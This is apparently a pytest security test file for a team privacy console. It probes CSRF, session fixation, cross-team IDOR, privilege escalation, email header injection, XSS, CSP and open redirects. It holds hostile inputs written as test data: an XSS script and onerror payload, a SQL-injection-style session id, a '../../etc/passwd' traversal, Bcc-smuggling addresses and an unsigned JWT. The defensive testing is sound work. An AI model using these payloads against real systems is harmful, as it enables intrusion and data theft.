"""Attacks on the account console (issue 16), each written as the behaviour that resists it: a failing test here
is a hole. The attackers: anyone on the internet; a plain member of team A; an admin of team A after team B's
data; the privacy officer reaching for more than executing. Every hostile input must end in a 4xx page (never a
500), change nothing, and show nothing of another team."""
import csv
import datetime as dt
import html
import io
import re
import urllib.parse

import pytest

from chalicelib import cursors, tokens
from tests.console_support import ORIGIN, Console
from tests.support import resolve_hooks_publicly
from tests.test_console_oidc import provider_fixture  # noqa: F401 — the fake provider, as fixture `provider`

PAYLOAD = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
HTTPS = "https://privacy.example"


# --- who is attacking ---------------------------------------------------------------------------------------

@pytest.fixture
def officer(api, team):
    """Team A's admin, signed in."""
    console = Console(api)
    console.sign_in(team.admin_email)
    return console


@pytest.fixture
def other(api):
    """Team B, whose data team A's admin is after."""
    return api.new_team("Other team", admin_email="b-admin@other.example")


@pytest.fixture
def dave(api, team):
    """A plain member of team A, signed in."""
    api.add_member(team, "dave", "dave@team.example")
    console = Console(api)
    console.sign_in("dave@team.example")
    return console


@pytest.fixture
def olga(api, team):
    """Team A's privacy officer (a member, not an admin), signed in."""
    api.add_member(team, "olga", "olga@team.example")
    api.patch(f"/teams/{team.id}/privacy/settings", {"privacy_officer_id": "olga"}, token=team.token)
    console = Console(api)
    console.sign_in("olga@team.example")
    return console


# --- helpers ------------------------------------------------------------------------------------------------

def raw_post(console: Console, path: str, body: bytes, content_type: str, origin: str | None = ORIGIN,
             headers: dict | None = None):
    """A POST as a hand-made request (or another site's form) sends it: any body, any type."""
    sent = {"Content-Type": content_type, **({"Origin": origin} if origin else {}), **(headers or {})}
    return console._keep(console.api.client.http.request("POST", path, headers=console._headers(sent), body=body))


def page_of(answer) -> str:
    return answer.body.decode("utf-8", "replace")


def assert_shown_inert(page: str):
    """The hostile value is on the page as text: escaped, never as markup that would run."""
    assert PAYLOAD not in page
    assert "<script>alert" not in page and "<img src=x" not in page
    assert ESCAPED in page, "the value isn't shown at all: this test proves nothing"


def add_manual_system(api, team, system_id="paper", name="Paper archive"):
    answer = api.put(f"/teams/{team.id}/privacy/systems/{system_id}",
                     {"name": name, "kind": "manual", "owner_email": "owner@team.example"}, token=team.token)
    assert answer.status_code in (200, 201), answer.body


def request_with_open_task(api, team, email="client@x.example", system_id="paper") -> str:
    """An erasure executed while a manual system is connected: its task waits for the owner's answer."""
    add_manual_system(api, team, system_id)
    request_id = api.verified_request(team, email)
    api.executed(team, request_id)
    api.pump()
    return request_id


def completed_restriction(api, team, email="client@x.example") -> str:
    api.new_dossier(team, email)
    request_id = api.verified_request(team, email, "restriction")
    api.executed(team, request_id)
    return request_id


def sessions_in(state: dict) -> list[str]:
    return [item for table in state.values() for item in table if '"session#' in item]


# --- CSRF and where a form comes from -----------------------------------------------------------------------

@pytest.mark.parametrize("referer", ["https://evil.example/page", "null", "http://127.0.0.1:8000.evil.example/",
                                     "http://127.0.0.1:8000@evil.example/"])
def test_a_post_without_origin_but_with_a_foreign_referer_is_refused(api, team, officer, referer):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/execute", origin=None,
                          headers={"Referer": referer})
    assert answer.status_code == 403
    assert api.state() == before


@pytest.mark.parametrize("token", ["", " ", "forged", "x" * 5000])
def test_a_post_with_a_forged_csrf_token_changes_nothing(api, team, officer, token):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/execute", {"csrf_token": token})
    assert answer.status_code == 403
    assert api.state() == before


@pytest.mark.parametrize("content_type, body", [
    ("text/plain", b"note=x\r\nconfirm=1\r\n"),
    ("multipart/form-data; boundary=X", b'--X\r\nContent-Disposition: form-data; name="note"\r\n\r\nx\r\n--X--\r\n'),
    ("application/json", b'{"confirm": true}'),
])
def test_a_cross_site_form_of_another_encoding_without_the_token_changes_nothing(api, team, officer, content_type,
                                                                                  body):
    request_id = api.verified_request(team, "client@x.example")
    before = api.state()
    answer = raw_post(officer, f"/console/teams/{team.id}/requests/{request_id}/execute", body, content_type,
                      origin=None)
    assert answer.status_code == 403
    assert api.state() == before


def test_the_csrf_token_of_a_signed_out_session_is_no_good_in_the_next(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    old_token = officer.csrf_token()
    officer.post("/console/sign-out")
    officer.sign_in(team.admin_email)
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/execute", {"csrf_token": old_token})
    assert answer.status_code == 403
    assert api.request_view(team, request_id)["status"] == "pending"


def test_signing_someone_out_from_another_site_is_refused(api, team, officer):
    officer.get(f"/console/teams/{team.id}/requests")
    answer = officer.post("/console/sign-out", origin="https://evil.example")
    assert answer.status_code == 403
    assert officer.get(f"/console/teams/{team.id}/requests").status_code == 200


# --- login CSRF and session fixation ------------------------------------------------------------------------

@pytest.mark.parametrize("origin, referer", [("https://evil.example", None), ("null", None),
                                             (None, "https://evil.example/")])
def test_another_site_cant_sign_a_browser_in_with_its_own_link(api, team, origin, referer):
    attacker = Console(api)
    attacker.ask_link(team.admin_email)
    link = api.last_link_to(team.admin_email, "/console/sign-in/")
    victim = Console(api)
    before = api.state()
    answer = victim.post(link, csrf=False, origin=origin, headers={"Referer": referer} if referer else None)
    assert answer.status_code == 403
    assert victim.cookies == {}
    assert api.state() == before  # the link isn't used up, and no session began


def test_a_session_id_planted_before_sign_in_does_not_survive_it(api, team):
    planted = "attacker-chose-this-session-id-0123456789abcdef"
    victim = Console(api)
    victim.cookies["pd_session"] = planted
    victim.sign_in(team.admin_email)
    assert victim.cookies["pd_session"] != planted
    attacker = Console(api)
    attacker.cookies["pd_session"] = planted
    assert attacker.get(f"/console/teams/{team.id}/requests").status_code == 303


def test_an_attackers_own_session_planted_in_a_browser_is_replaced_at_sign_in(api, team, other):
    attacker = Console(api)
    attacker.sign_in(other.admin_email)
    (planted,) = attacker.cookies.values()
    victim = Console(api)
    victim.cookies["pd_session"] = planted
    victim.sign_in(team.admin_email)
    assert victim.cookies["pd_session"] != planted
    attacker.cookies["pd_session"] = planted
    assert attacker.get(f"/console/teams/{team.id}/requests").status_code in (303, 404)


def test_a_sign_in_link_is_not_a_token_of_another_purpose(api, team):
    """A client's verification link (signed with the same key) can't be replayed as a sign-in link."""
    api.submit(team, team.admin_email)
    api.pump()
    verify_path = api.last_link_to(team.admin_email, "/portal/privacy/verify/")
    token = verify_path.rstrip("/").rsplit("/", 1)[-1].split("?")[0]
    assert tokens.claims_for_language(token, tokens.VERIFY)  # a genuine token of ours, for another purpose
    console = Console(api)
    answer = console.post(f"/console/sign-in/{token}", csrf=False)
    assert answer.status_code == 401
    assert console.cookies == {}


@pytest.mark.parametrize("token", ["x", "a.b.c", "eyJhbGciOiJub25lIn0.eyJlbWFpbCI6ImFAYi5jIn0.",
                                   "W10.W10.W10", "x" * 4000])
def test_a_made_up_sign_in_link_is_refused_with_a_page(api, token):
    console = Console(api)
    assert console.get(f"/console/sign-in/{token}").status_code == 401
    assert console.post(f"/console/sign-in/{token}", csrf=False).status_code == 401
    assert console.cookies == {}


# --- cookies --------------------------------------------------------------------------------------------------

def https_sign_in(api, email) -> Console:
    console = Console(api)
    console.post("/console/sign-in", {"email": email}, csrf=False, origin=HTTPS)
    link = api.last_link_to(email, "/console/sign-in/")
    answer = console.post(link, csrf=False, origin=HTTPS)
    assert answer.status_code == 303, page_of(answer)
    cookie = answer.headers["Set-Cookie"]
    assert cookie.startswith("__Host-pd_session=") and "; Secure" in cookie and "Domain" not in cookie
    return console


@pytest.mark.parametrize("name", ["pd_session", "__host-pd_session", "__Secure-pd_session", "__Host-pd_session_oidc"])
def test_over_https_only_the_host_prefixed_cookie_names_a_session(api, team, monkeypatch, name):
    monkeypatch.setenv("PUBLIC_BASE_URL", HTTPS)
    console = https_sign_in(api, team.admin_email)
    (session_id,) = console.cookies.values()
    assert console.get(f"/console/teams/{team.id}/requests").status_code == 200
    tossed = Console(api)  # a cookie a sibling subdomain or a plain-http page could set
    tossed.cookies = {name: session_id}
    assert tossed.get(f"/console/teams/{team.id}/requests").status_code == 303


@pytest.mark.parametrize("header", ["pd_session", "=", ";;;", "pd_session=\"", "pd_session=;pd_session=",
                                    "pd_session=" + "a" * 20000, "a=b; " * 3000, "pd_session=%00%0d%0a",
                                    "pd_session=" + "é" * 50, "pd_session==", "\"pd_session\"=x"])
def test_a_malformed_cookie_header_is_signed_out_not_an_error(api, team, header):
    console = Console(api)
    answer = console.get(f"/console/teams/{team.id}/requests", headers={"Cookie": header})
    assert answer.status_code == 303
    answer = console.get("/console", headers={"Cookie": header})
    assert answer.status_code == 200


@pytest.mark.parametrize("session_id", ["a" * 43, "a" * 101, "a" * 5000, "../../etc/passwd", "' OR 1=1 --",
                                        "session#x"])
def test_a_made_up_session_id_is_signed_out(api, team, officer, session_id):
    forger = Console(api)
    forger.cookies = {"pd_session": session_id}
    assert forger.get(f"/console/teams/{team.id}/requests").status_code == 303
    forger.page = '<input name="csrf_token" value="x">'
    assert forger.post("/console/sign-out").status_code == 303


def test_the_stored_session_key_is_no_session_id(api, team, officer):
    """Someone who reads the sessions table (a backup, a log) can't use what is stored as a cookie."""
    stored = [re.search(r'"session#([0-9a-f]{64})"', item).group(1) for item in sessions_in(api.state())]
    assert stored
    for value in stored:
        thief = Console(api)
        thief.cookies = {"pd_session": value}
        assert thief.get(f"/console/teams/{team.id}/requests").status_code == 303


# --- team A's admin after team B's data (IDOR) ----------------------------------------------------------------

@pytest.mark.parametrize("action", ["execute", "extend", "deny"])
def test_another_teams_request_cant_be_acted_on_under_ones_own_team(api, team, other, officer, action):
    request_id = api.verified_request(other, "bclient@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/{action}",
                          {"months": "1", "reason": "mine now", "note": "x"})
    assert answer.status_code == 404
    assert "bclient@x.example" not in page_of(answer)
    assert api.state() == before


def test_another_teams_restriction_cant_be_lifted_under_ones_own_team(api, team, other, officer):
    request_id = completed_restriction(api, other, "bclient@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/lift-restriction")
    assert answer.status_code == 404
    assert api.state() == before


@pytest.mark.parametrize("suffix", ["", "/row", "/execute"])
def test_another_teams_request_cant_be_read_under_ones_own_team(api, team, other, officer, suffix):
    request_id = api.verified_request(other, "bclient@x.example")
    answer = officer.get(f"/console/teams/{team.id}/requests/{request_id}{suffix}")
    assert answer.status_code == 404
    assert "bclient@x.example" not in page_of(answer)


@pytest.mark.parametrize("action", ["skip", "retry"])
def test_another_teams_system_task_cant_be_touched_under_ones_own_team(api, team, other, officer, action):
    request_id = request_with_open_task(api, other, "bclient@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/systems/paper/{action}",
                          {"reason": "not needed"})
    assert answer.status_code == 404
    assert api.state() == before


def test_ones_own_system_of_the_same_id_doesnt_open_another_teams_task(api, team, other, officer):
    request_id = request_with_open_task(api, other, "bclient@x.example")
    add_manual_system(api, team, "paper")
    officer.get(f"/console/teams/{team.id}/requests")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/systems/paper/skip", {"reason": "x"})
    assert answer.status_code == 404
    assert api.state() == before


@pytest.mark.parametrize("fields", [{"action": "update", "role": "member", "name": "Taken"},
                                    {"action": "update", "email": "attacker@team.example"},
                                    {"action": "remove"}])
def test_another_teams_member_cant_be_changed_under_ones_own_team(api, team, other, officer, fields):
    officer.get(f"/console/teams/{team.id}/members")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/members", {**fields, "member_id": other.admin_id})
    assert answer.status_code == 404
    assert api.state() == before


@pytest.mark.parametrize("action", ["rotate", "delete"])
def test_another_teams_system_cant_be_rotated_or_removed_under_ones_own_team(api, team, other, officer, monkeypatch,
                                                                             action):
    resolve_hooks_publicly(monkeypatch)
    answer = api.put(f"/teams/{other.id}/privacy/systems/crm",
                     {"name": "CRM", "kind": "webhook", "url": "https://hooks.example.com/privacy"}, token=other.token)
    assert answer.status_code in (200, 201)
    officer.get(f"/console/teams/{team.id}/systems")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/systems", {"action": action, "system_id": "crm"})
    assert answer.status_code == 404
    assert "whsec_" not in page_of(answer)
    assert api.state() == before


def test_another_teams_member_cant_be_made_ones_privacy_officer(api, team, other, officer):
    officer.get(f"/console/teams/{team.id}/settings")
    before = api.settings(team)
    answer = officer.post(f"/console/teams/{team.id}/settings", {"privacy_officer_id": other.admin_id, "locale": "en"})
    assert answer.status_code in (400, 404, 422)
    assert api.settings(team) == before


def test_searching_ones_queue_for_another_teams_client_finds_nothing(api, team, other, officer):
    theirs = api.verified_request(other, "bclient@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    answer = officer.post(f"/console/teams/{team.id}/requests/search", {"email": "bclient@x.example", "state": "all"})
    assert answer.status_code == 200
    assert theirs not in page_of(answer)


@pytest.mark.parametrize("state", ["all", "pending"])
def test_a_cursor_made_for_another_team_is_refused(api, team, other, officer, state):
    theirs = api.verified_request(other, "bclient@x.example")
    forged = cursors.encode({"team_id": {"S": other.id}, "request_id": {"S": theirs},
                             "team_status": {"S": f"{other.id}#pending"}})
    answer = officer.get(f"/console/teams/{team.id}/requests?state={state}&next={forged}")
    assert answer.status_code == 400
    assert theirs not in page_of(answer) and "bclient@x.example" not in page_of(answer)


def test_a_team_one_isnt_in_looks_the_same_as_one_that_doesnt_exist(api, team, other, officer):
    real = officer.get(f"/console/teams/{other.id}/requests")
    made_up = officer.get("/console/teams/t_00000000000000000000000000/requests")
    assert real.status_code == made_up.status_code == 404
    assert page_of(real) == page_of(made_up)


# --- a plain member, and the privacy officer, forging what they aren't allowed ------------------------------

def test_a_plain_member_cant_lift_a_restriction(api, team, dave):
    request_id = completed_restriction(api, team)
    dave.get(f"/console/teams/{team.id}/requests/{request_id}")
    before = api.state()
    assert dave.post(f"/console/teams/{team.id}/requests/{request_id}/lift-restriction").status_code == 403
    assert api.state() == before


@pytest.mark.parametrize("action", ["skip", "retry"])
def test_a_plain_member_cant_skip_or_retry_a_systems_task(api, team, dave, action):
    request_id = request_with_open_task(api, team)
    dave.get(f"/console/teams/{team.id}/requests/{request_id}")
    before = api.state()
    answer = dave.post(f"/console/teams/{team.id}/requests/{request_id}/systems/paper/{action}", {"reason": "x"})
    assert answer.status_code == 403
    assert api.state() == before


def refused_unchanged(api, console, path: str, fields: dict) -> None:
    """The form's page opened, then its post refused with 403, and nothing stored changed."""
    console.get(path)
    before = api.state()
    assert console.post(path, fields).status_code == 403
    assert api.state() == before


@pytest.mark.parametrize("path, fields", [
    ("settings", {"consent_text": "forged", "locale": "en"}),
    ("settings", {"privacy_officer_id": "dave", "locale": "en"}),
    ("members", {"action": "add", "name": "Mallory", "email": "mallory@evil.example", "role": "admin"}),
    ("members", {"action": "update", "member_id": "dave", "role": "admin"}),
    ("systems", {"action": "add", "system_id": "exfil", "name": "Exfil", "kind": "manual",
                 "owner_email": "mallory@evil.example"}),
    ("systems", {"action": "delete", "system_id": "paper"}),
])
def test_a_plain_member_cant_change_the_team(api, team, dave, path, fields):
    add_manual_system(api, team, "paper")
    refused_unchanged(api, dave, f"/console/teams/{team.id}/{path}", fields)


@pytest.mark.parametrize("path, fields", [
    ("members", {"action": "update", "member_id": "olga", "role": "admin"}),
    ("members", {"action": "add", "name": "Sock", "email": "sock@team.example", "role": "admin"}),
    ("settings", {"privacy_officer_id": "", "locale": "en"}),
    ("systems", {"action": "delete", "system_id": "paper"}),
])
def test_the_privacy_officer_executes_but_cant_run_the_team(api, team, olga, path, fields):
    add_manual_system(api, team, "paper")
    refused_unchanged(api, olga, f"/console/teams/{team.id}/{path}", fields)


def test_a_former_privacy_officer_loses_execute_at_once(api, team, olga):
    request_id = api.verified_request(team, "client@x.example")
    olga.get(f"/console/teams/{team.id}/requests/{request_id}/execute")
    api.patch(f"/teams/{team.id}/privacy/settings", {"privacy_officer_id": None}, token=team.token)
    answer = olga.post(f"/console/teams/{team.id}/requests/{request_id}/execute")
    assert answer.status_code == 403
    assert api.request_view(team, request_id)["status"] == "pending"


# --- sign-in: enumeration, email bombing, header injection ----------------------------------------------------

def test_the_sign_in_limit_answers_a_member_and_a_stranger_alike(api, team):
    member, stranger = Console(api), Console(api)
    for _ in range(5):
        assert member.ask_link(team.admin_email).status_code == 200
        assert stranger.ask_link("nobody@elsewhere.example").status_code == 200
    sent = len(api.mail_to(team.admin_email))
    limited_member = member.ask_link(team.admin_email)
    limited_stranger = stranger.ask_link("nobody@elsewhere.example")
    assert limited_member.status_code == limited_stranger.status_code == 429
    assert member.text().replace(team.admin_email, "X") == stranger.text().replace("nobody@elsewhere.example", "X")
    assert len(api.mail_to(team.admin_email)) == sent == 5


def test_the_sign_in_limit_counts_an_address_however_it_is_spelt(api, team):
    console = Console(api)
    spellings = [team.admin_email, team.admin_email.upper(), " " + team.admin_email, "Admin@Team.Example",
                 team.admin_email + " ", "ADMIN@team.example"]
    for spelling in spellings:
        console.ask_link(spelling)
    assert len(api.mail_to(team.admin_email)) == 5


@pytest.mark.parametrize("address", [
    "admin@team.example\r\nBcc: evil@evil.example",
    "admin@team.example\nBcc: evil@evil.example",
    "admin@team.example, evil@evil.example",
    "admin@team.example;evil@evil.example",
    "Evil <evil@evil.example>",
    "evil@evil.example\r\n\r\nadmin@team.example",
    "=?utf-8?q?evil=40evil.example?=@team.example",
    "admin@team.example\x00evil@evil.example",
])
def test_a_sign_in_address_cant_smuggle_a_recipient(api, team, address):
    console = Console(api)
    console.get("/console")
    answer = console.post("/console/sign-in", {"email": address}, csrf=False)
    assert answer.status_code == 400
    assert api.mail_to("evil@evil.example") == [] and api.mail_to(team.admin_email) == []


def test_the_sign_in_page_doesnt_name_the_teams_of_an_address(api, team):
    console = Console(api)
    console.ask_link(team.admin_email)
    assert "Team" not in console.text().replace("Team members", "").replace("team member", "")
    assert team.id not in console.page


# --- XSS: every value a client or a member controls -----------------------------------------------------------

def test_a_hostile_team_name_is_shown_as_text(api):
    hostile = api.new_team(PAYLOAD, admin_email="h-admin@team.example")
    console = Console(api)
    console.sign_in("h-admin@team.example")
    answer = console.get(f"/console/teams/{hostile.id}/requests")
    assert answer.status_code == 200
    assert_shown_inert(console.page)


def test_a_hostile_team_name_is_text_in_the_team_picker_and_the_execute_dialog(api, team):
    hostile = api.new_team(PAYLOAD, admin_email="h-admin@team.example")
    api.add_member(hostile, "ada", team.admin_email, role="admin")
    api.verified_request(hostile, "client@x.example")
    console = Console(api)
    console.sign_in(team.admin_email)
    assert_shown_inert(console.page)  # the picker
    console.get(f"/console/teams/{hostile.id}/requests")
    assert 'data-action="execute"' in console.page
    assert_shown_inert(console.page)


def test_a_hostile_member_name_is_shown_as_text(api, team, officer):
    api.put(f"/teams/{team.id}/members/mallory", {"email": "mallory@team.example", "name": PAYLOAD, "role": "member"},
            token=team.token)
    for path in ("members", "settings"):
        officer.get(f"/console/teams/{team.id}/{path}")
        assert_shown_inert(officer.page)


def test_a_hostile_request_message_is_shown_as_text(api, team, officer):
    request_id = api.verified_request(team, "client@x.example", "rectification", message=PAYLOAD)
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert_shown_inert(officer.page)


def test_a_client_address_full_of_specials_is_shown_as_text(api, team, officer):
    address = "o'neil&{x}|`y`@x.example"
    request_id = api.verified_request(team, address)
    for path in ("requests", f"requests/{request_id}", f"requests/{request_id}/execute"):
        officer.get(f"/console/teams/{team.id}/{path}")
        assert address not in officer.page, path
        assert "o&#39;neil&amp;{x}|`y`@x.example" in officer.page, path


def test_a_hostile_denial_reason_is_shown_as_text(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert officer.post(f"/console/teams/{team.id}/requests/{request_id}/deny", {"reason": PAYLOAD}).status_code == 303
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert_shown_inert(officer.page)


def test_a_hostile_extension_reason_is_shown_as_text(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    officer.post(f"/console/teams/{team.id}/requests/{request_id}/extend", {"months": "1", "reason": PAYLOAD})
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert_shown_inert(officer.page)


def test_a_hostile_skip_reason_is_shown_as_text(api, team, officer):
    request_id = request_with_open_task(api, team)
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/systems/paper/skip", {"reason": PAYLOAD})
    assert answer.status_code == 303
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert_shown_inert(officer.page)


def test_a_refused_reason_typed_back_into_the_form_is_text(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/extend", {"months": "9", "reason": PAYLOAD})
    assert 400 <= answer.status_code < 500
    assert_shown_inert(officer.page)


def test_hostile_alerts_are_shown_as_text(api, team, officer):
    from chalicelib.models import PrivacyRequest

    request_id = api.verified_request(team, "client@x.example")
    item = PrivacyRequest.get(team.id, request_id)
    item.update(actions=[PrivacyRequest.alerts.set([{"at": "2026-01-01T00:00:00Z", "email": PAYLOAD,
                                                      "recipient": PAYLOAD, "reason": PAYLOAD}])])
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert_shown_inert(officer.page)


def test_a_hostile_system_name_is_shown_as_text(api, team, officer):
    add_manual_system(api, team, "paper", name=PAYLOAD)
    officer.get(f"/console/teams/{team.id}/systems")
    assert_shown_inert(officer.page)
    request_id = api.verified_request(team, "client@x.example")
    api.executed(team, request_id)
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert_shown_inert(officer.page)


def test_a_hostile_webhook_address_is_shown_as_text(api, team, officer, monkeypatch):
    resolve_hooks_publicly(monkeypatch)
    url = "https://hooks.example.com/p?a=%3Cb%3E&q=\"><script>alert(1)</script>"
    answer = api.put(f"/teams/{team.id}/privacy/systems/crm", {"name": "CRM", "kind": "webhook", "url": url},
                     token=team.token)
    assert answer.status_code == 201
    officer.get(f"/console/teams/{team.id}/systems")
    assert_shown_inert(officer.page)


@pytest.mark.parametrize("fields", [
    {"action": "update", "member_id": PAYLOAD, "role": "member"},
    {"action": "remove", "member_id": PAYLOAD},
    {"action": "add", "name": PAYLOAD, "email": PAYLOAD, "role": "member"},
])
def test_a_refused_members_form_echoes_its_values_as_text(api, team, officer, fields):
    officer.get(f"/console/teams/{team.id}/members")
    answer = officer.post(f"/console/teams/{team.id}/members", fields)
    assert 400 <= answer.status_code < 500
    assert_shown_inert(officer.page)


@pytest.mark.parametrize("fields", [
    {"action": "add", "system_id": "ok", "name": PAYLOAD, "kind": "webhook", "url": PAYLOAD},
    {"action": "rotate", "system_id": PAYLOAD},
    {"action": "delete", "system_id": PAYLOAD},
])
def test_a_refused_systems_form_echoes_its_values_as_text(api, team, officer, fields):
    officer.get(f"/console/teams/{team.id}/systems")
    answer = officer.post(f"/console/teams/{team.id}/systems", fields)
    assert 400 <= answer.status_code < 500
    assert_shown_inert(officer.page)


def test_a_hostile_system_id_is_shown_as_text(api, team, officer):
    officer.get(f"/console/teams/{team.id}/systems")
    answer = officer.post(f"/console/teams/{team.id}/systems", {"action": "add", "system_id": PAYLOAD, "name": "x",
                                                                "kind": "manual", "owner_email": "o@team.example"})
    if answer.status_code != 303:  # refused: then it is only echoed
        assert_shown_inert(officer.page)
        return
    officer.get(f"/console/teams/{team.id}/systems")
    assert_shown_inert(officer.page)
    request_id = api.verified_request(team, "client@x.example")
    api.executed(team, request_id)
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert_shown_inert(officer.page)


@pytest.mark.parametrize("system_id", ["../../../settings?", "x/../../../../members#", "a?b", "a#b", "a/b"])
def test_a_tasks_forms_post_to_that_task_whatever_the_system_id(api, team, officer, system_id):
    """A system id is written into the task's form actions: it must not be able to point them elsewhere (the
    officer's "Skip" posting the team's settings form, say)."""
    officer.get(f"/console/teams/{team.id}/systems")
    officer.post(f"/console/teams/{team.id}/systems", {"action": "add", "system_id": system_id, "name": "x",
                                                       "kind": "manual", "owner_email": "o@team.example"})
    request_id = api.verified_request(team, "client@x.example")
    api.executed(team, request_id)
    page = f"/console/teams/{team.id}/requests/{request_id}"
    officer.get(page)
    task_base = f"{page}/systems/"
    for action in re.findall(r'<form method="post" action="([^"]+)"', officer.page):
        target = urllib.parse.urlsplit(urllib.parse.urljoin(ORIGIN + page, html.unescape(action)))
        if "/systems/" in action:
            assert target.path.startswith(task_base) and target.path.endswith(("/skip", "/retry")), target
            assert not target.query and not target.fragment, target


def test_a_refused_setting_echoes_its_value_as_text(api, team, officer):
    officer.get(f"/console/teams/{team.id}/settings")
    answer = officer.post(f"/console/teams/{team.id}/settings", {"privacy_policy_url": PAYLOAD, "locale": "en",
                                                                 "consent_text": PAYLOAD})
    assert 400 <= answer.status_code < 500
    assert_shown_inert(officer.page)


def test_a_searched_address_is_echoed_as_text(api, team, officer):
    officer.get(f"/console/teams/{team.id}/requests")
    answer = officer.post(f"/console/teams/{team.id}/requests/search", {"email": PAYLOAD, "state": "all"})
    assert 400 <= answer.status_code < 500
    assert_shown_inert(officer.page)


def test_an_address_typed_at_sign_in_is_echoed_as_text(api):
    console = Console(api)
    console.get("/console")
    answer = console.post("/console/sign-in", {"email": PAYLOAD}, csrf=False)
    assert answer.status_code == 400
    assert_shown_inert(console.page)


def test_a_hostile_task_path_is_echoed_as_text(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    system = urllib.parse.quote(PAYLOAD.replace("/", ""), safe="")
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/systems/{system}/skip", {"reason": "x"})
    assert 400 <= answer.status_code < 500
    assert "<script>" not in page_of(answer) and "<img src=x" not in page_of(answer)


# --- what the pages let run, and what browsers may keep -------------------------------------------------------

def console_answers(api, team, officer) -> dict:
    """An answer of every kind the console gives, signed in or not."""
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    answers = {path: officer.get(path) for path in (
        f"/console/teams/{team.id}/requests", f"/console/teams/{team.id}/requests/{request_id}",
        f"/console/teams/{team.id}/requests/{request_id}/row", f"/console/teams/{team.id}/requests/{request_id}/execute",
        f"/console/teams/{team.id}/settings", f"/console/teams/{team.id}/members",
        f"/console/teams/{team.id}/systems", f"/console/teams/{team.id}/log.csv", "/console/teams/t_nope/requests",
        "/console")}
    answers["forged post"] = officer.post(f"/console/teams/{team.id}/settings", {"csrf_token": "forged"})
    stranger = Console(api)
    answers["sign-in page"] = stranger.get("/console")
    answers["link sent"] = stranger.ask_link(team.admin_email)
    link = api.last_link_to(team.admin_email, "/console/sign-in/")
    answers["link page"] = stranger.get(link)
    answers["link used"] = stranger.post(link, csrf=False)
    answers["callback"] = stranger.get("/console/sign-in/callback?code=x&state=y")
    return answers


def test_every_console_answer_is_kept_by_no_browser_or_proxy(api, team, officer):
    for name, answer in console_answers(api, team, officer).items():
        assert answer.headers.get("Cache-Control") == "no-store", name


def test_every_console_answer_forbids_inline_code_framing_and_sniffing(api, team, officer):
    for name, answer in console_answers(api, team, officer).items():
        policy = answer.headers.get("Content-Security-Policy", "")
        assert "script-src 'self'" in policy and "default-src 'none'" in policy, name
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy and "data:" not in policy, name
        assert "frame-ancestors 'none'" in policy and "base-uri 'none'" in policy, name
        assert answer.headers.get("X-Content-Type-Options") == "nosniff", name
        body = page_of(answer)
        assert not re.search(r"<script(?![^>]*\bsrc=)", body), name  # no inline script
        assert not re.search(r"\son[a-z]+=", body) and " style=" not in body, name  # no inline handler or style


def test_the_request_log_is_a_download_not_a_page(api, team, officer):
    answer = officer.get(f"/console/teams/{team.id}/log.csv")
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers.get("X-Content-Type-Options") == "nosniff"


# --- redirects ----------------------------------------------------------------------------------------------

def test_redirects_go_to_our_own_origin_whatever_the_host_header_says(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    evil = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"}
    officer.get(f"/console/teams/{team.id}/requests/{request_id}/execute")
    locations = [officer.post(f"/console/teams/{team.id}/requests/{request_id}/execute", headers=evil),
                 Console(api).get(f"/console/teams/{team.id}/requests", headers=evil),
                 officer.get("/console", headers=evil)]
    for answer in locations:
        assert answer.status_code == 303
        assert answer.headers["Location"].startswith(ORIGIN + "/"), answer.headers["Location"]


@pytest.mark.parametrize("query", ["next=https://evil.example", "redirect=https://evil.example",
                                   "return_to=//evil.example", "done=https://evil.example"])
def test_no_query_parameter_sends_the_browser_elsewhere_after_sign_in(api, team, query):
    console = Console(api)
    console.get(f"/console?{query}")
    console.post(f"/console/sign-in?{query}", {"email": team.admin_email}, csrf=False)
    link = api.last_link_to(team.admin_email, "/console/sign-in/")
    answer = console.post(f"{link}?{query}", csrf=False)
    assert answer.headers["Location"].startswith(ORIGIN + "/")


